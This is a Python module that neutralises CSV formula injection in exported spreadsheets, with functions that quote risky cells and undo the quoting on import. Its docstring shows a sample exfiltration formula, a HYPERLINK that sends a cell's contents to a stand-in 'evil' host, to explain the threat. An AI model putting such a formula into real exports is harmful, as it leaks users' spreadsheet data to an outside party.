"""CSV cells a spreadsheet cannot run: the one place every CSV writer of the studio goes through.

Why: names, prompts and captions come from users and the web. A cell such as
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` in an exported CSV is run as a formula
when someone opens the file in Excel or LibreOffice (OWASP "CSV injection"). Following OWASP,
a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading single quote, which spreadsheets show as text and do not evaluate.

What is left alone, and why:

- numbers: int and float values, and text that is just a decimal number (``-0.5``,
  ``+3``, ``1e-4``): a spreadsheet reads those as the number they are, never as a formula,
  so a numeric column stays numeric;
- everything that does not start with one of those characters.

The quote is reversible: :func:`csv_text` removes exactly one added quote, and a cell
that itself starts with quotes before such a character gets one more on the way out, so
export → import gives back the original text (the arena's ``export-votes`` /
``import-votes`` round trip relies on it).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_RISKY = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _risky(text: str) -> bool:
    return _RISKY.match(text) is not None and _NUMBER.fullmatch(text) is None


def csv_cell(value: Any) -> Any:
    """``value`` as it should go into a CSV cell: risky text quoted, anything else unchanged."""
    if isinstance(value, str) and _risky(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_cell` over a row (for ``csv.writer.writerow``)."""
    return [csv_cell(v) for v in values]


def csv_text(cell: str) -> str:
    """The original text of a cell :func:`csv_cell` wrote (for importers reading our exports)."""
    if cell.startswith("'") and _risky(cell[1:]):
        return cell[1:]
    return cell
